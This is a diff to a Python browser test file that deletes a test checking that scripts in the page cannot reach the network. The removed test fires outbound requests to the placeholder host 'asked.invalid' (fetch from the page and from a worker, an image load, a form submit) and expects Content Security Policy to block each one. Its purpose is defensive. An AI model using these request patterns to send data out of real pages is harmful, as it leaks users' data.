@@ -200,24 +200,6 @@ class PageTest(unittest.TestCase):
         for part in ('"said"', "no_such_function is not defined", "Ignored call to 'alert()'"):
             self.assertIn(part, said)
 
-    def test_the_browser_itself_sends_nothing_wherever_a_script_runs(self):
-        self.proxy.asked.clear()
-        attempt = "const done = arguments[0]; fetch('http://asked.invalid/' + location.protocol).then(() => done('sent'), () => done('refused'))"
-        work = "fetch('http://asked.invalid/w').then(() => postMessage('sent'), () => postMessage('refused'))"
-        page = Page(self.browser, html)
-        self.choose(page, fixtures / "good.sqlite")
-        self.assertEqual(page.driver.execute_async_script(attempt), "refused")
-        self.assertEqual(page.driver.execute_async_script(
-            "const [code, done] = arguments; new Worker(URL.createObjectURL(new Blob([code]))).onmessage = event => done(event.data)", work), "refused")
-        with self.report(page):
-            self.assertEqual(page.driver.execute_async_script(attempt), "refused")
-            self.assertIn("null", page.js("return origin"))
-        page.js("const picture = new Image(); picture.src = 'http://asked.invalid/picture'; document.body.append(picture)")
-        page.js("const form = document.createElement('form'); form.action = 'http://asked.invalid/form'; document.body.append(form); form.submit()")
-        page.settle()
-        self.assertGreaterEqual("\n".join(page.said()).count("Content Security Policy"), 4)
-        self.assertEqual(self.proxy.asked, [])
-
     def test_a_report_can_be_dropped(self):
         with self.opened() as page:
             self.drop(page, fixtures / "starved.sqlite")
